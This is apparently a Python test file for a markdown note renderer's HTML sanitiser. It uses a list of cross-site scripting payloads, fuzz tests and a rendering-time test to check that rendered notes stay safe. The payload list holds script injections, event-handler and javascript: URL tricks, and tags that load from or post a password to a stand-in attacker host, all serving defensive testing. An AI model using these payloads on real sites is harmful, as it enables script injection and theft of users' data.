from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st
from tests.bounded import run_within
from tests.cases import cases

from notewell.serve.web.markdown import Style, render
from notewell.serve.web.note_links import NoteLinks
from notewell.serve.web.sanitise import sanitised

from .safe_html import Elements, check_safe

ENDS = {"Bees": "Garden/Bees.md", "hive.png": "Garden/hive.png", "page.html": "page.html"}
HOSTILE = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.png>",
    "<img srcset='https://evil.example/a.png 1x' src=hive.png>",
    '<img src="/file/../reload">',
    '<img src="/search?text=secret">',
    '<img src="\\\\evil.example/x.png">',
    "<picture><source srcset=//evil.example/x></picture>",
    "<svg onload=alert(1)><script>alert(1)</script><image href=//evil.example/x /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src=//evil.example></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<video src=//evil.example/v poster=//evil.example/p autoplay></video><audio src=//evil.example/a autoplay>",
    "<form action=//evil.example><input name=password><button>Log in</button></form>",
    "<style>body{background:url(//evil.example)}</style><p style='background:url(//evil.example)'>x</p>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=prefetch href=//evil.example><link rel=stylesheet href=//evil.example>",
    "<body onload=alert(1)><html manifest=//evil.example><frameset><frame src=//evil.example>",
    "<a href=javascript:alert(1)>a</a> [b](javascript:alert(1)) [c](JaVaScRiPt:alert(1))",
    "<a href='java&#9;script:alert(1)'>a</a> <a href=' javascript:alert(1)'>b</a> <a href='&#x6a;avascript:x'>c</a>",
    "[a](vbscript:x) [b](data:text/html;base64,PHNjcmlwdD4=) <a href='data:,x'>c</a> ![d](data:image/svg+xml,x)",
    "[a](<javascript:alert(1)>) <javascript:alert(1)> [[javascript:alert(1)]] ![[javascript:alert(1)]]",
    "[a]: javascript:alert(1)\n\n[a] [b][a] ![a]",
    '![x" onerror="alert(1)](hive.png) ![[hive.png|x" onerror="alert(1)]] [[Bees|<img src=x onerror=alert(1)>]]',
    '[x](Bees "t\\" onmouseover=\\"alert(1)") [[Bees#"><script>alert(1)</script>]]',
    '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
    "$<img src=x onerror=alert(1)>$\n\n$$\n</pre><script>alert(1)</script>\n$$",
    '> [!"><script>alert(1)</script>] t\n\n> [!note]- <img src=x onerror=alert(1)>\n> x',
    "#<script>alert(1)</script> #tag\"onclick=alert(1) key:: <script>alert(1)</script> [k:: <svg onload=x>]",
    "[^1]: <script>alert(1)</script>\n\n[^1] [^\"><img src=x onerror=alert(1)>]",
    "<div class='problem quiet top' id=view>Log in</div><main id=announcer name=body></main>",
    "<a target=_blank ping=//evil.example download href=//evil.example>x</a>",
    "<details open ontoggle=alert(1)><summary>x</summary></details><dialog open>x</dialog>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript><template><script>x</script></template>",
    "<!--><img src=x onerror=alert(1)>--> <![CDATA[<script>alert(1)</script>]]> <?php <script>alert(1)</script> ?>",
    "</article></div></main><script>alert(1)</script><plaintext>",
    "a\u202eb\u200bc\U000e0041d \x1b[31m &#x202e; &#8203; &#xE0041; <b title='&#x202e;'>x</b>",
    "[REDACTED:x\"><script>] ![[REDACTED:password]] `[REDACTED:a]` [a]([REDACTED:b])",
)  # fmt: skip


def shown(text: str) -> str:
    links = NoteLinks(ENDS.get, lambda path, anchor: "<p>embedded</p>")
    return render(text, links)[0]


@cases("text", HOSTILE)
def test_nothing_of_a_hostile_note_runs_or_loads(text: str) -> None:
    check_safe(shown(text))
    check_safe(shown(f"> - {text}\n\n| a |\n|---|\n| {text} |"))


SIGNS = "<>\"'`&=/\\[](){}!#^$%|*_~\n\t "
STARTS = ("\n> ", "\n- [x] ", "\n    ", "\n```\n", "%%", "==", "[[", "]]", "![[", "$$", "<!--", "-->", "[^1]", "key:: ")
WORDS = ("<a href=", "<img src=", "javascript:", "onerror=", "&#x", "]: ")
PIECES = st.sampled_from([*HOSTILE, *SIGNS, *STARTS, *WORDS])


@settings(max_examples=300)
@given(st.lists(PIECES | st.text(max_size=8), max_size=12).map("".join))
def test_no_mixture_of_hostile_pieces_gets_through(text: str) -> None:
    check_safe(shown(text))


@settings(max_examples=200)
@given(st.lists(PIECES | st.text(max_size=8), max_size=8).map("".join))
def test_what_was_sanitised_stays_as_it_is(text: str) -> None:
    links = NoteLinks(ENDS.get)
    once, _ = render(text, links)
    assert sanitised(once, links.judge) == once


def test_the_address_of_an_image_is_one_that_we_made() -> None:
    html = shown("![a](hive.png) <img src=hive.png> <img src=/file/Garden/other.png> <img src='//x/hive.png'>")
    sources = [attributes.get("src") for tag, attributes in Elements(html).found if tag == "img"]
    assert sources == ["/file/Garden/hive.png", "/file/Garden/hive.png", None, None]


def test_an_image_of_another_server_is_a_link_that_is_only_followed_by_a_click() -> None:
    html = shown("![a picture](https://example.org/x.png)")
    assert '<a href="https://example.org/x.png" class="outside" rel="noreferrer noopener">a picture</a>' in html
    assert "<img" not in html


def test_footnotes_have_ids_of_their_own_and_notes_have_no_others() -> None:
    html, _ = render("a[^1]\n\n[^1]: b\n\n<p id=view>c</p>", NoteLinks(ENDS.get), Style(name="2-"))
    assert [attributes["id"] for _, attributes in Elements(html).found if "id" in attributes] == [
        "note-fnref2-1",
        "note-fn2-1",
    ]


ENDLESS = """
import sys
from notewell.serve.web.markdown import render
from notewell.serve.web.note_links import NoteLinks
size = 10_000
texts = {
    "quotes": ">" * size, "spaced quotes": "> " * size, "brackets": "[" * size, "embeds": "![[" * size,
    "links": "[a](" * size, "stars": "*a **b " * size, "highlights": "==a " * size, "ticks": "`" * size + "a",
    "rising ticks": "".join("`" * n + "a" for n in range(200)), "dollars": "$a " * size, "blocks": "$$ " * size,
    "comments": "%% a " * size, "open comment": "%%" + "a " * size, "notes": "[^1]" * size, "tags": "#a" * size,
    "spaced tags": "#a " * size, "fields": "a:: " * size, "inner fields": "[a:: " * size, "html": "<a " * size,
    "nested html": "<b>" * size, "lists": "".join("  " * n + "- a\\n" for n in range(300)), "marks": "- [x] " * size,
    "table": "|" * size + "\\n" + "|-" * size, "callouts": "> [!a]- b\\n" * size, "entities": "&#" * size,
    "names": "a ^b " * size, "colons": "a: " * size, "slashes": "://" * size, "web": "http://" * size,
    "addresses": "http://a." * size, "mails": "a@" * size, "redacted": "[REDACTED:" * size,
}
for name, text in texts.items():
    go_on(name)
    render(text, NoteLinks(lambda target: None))
"""


def test_no_text_takes_long_to_render() -> None:
    run_within(60, ENDLESS)
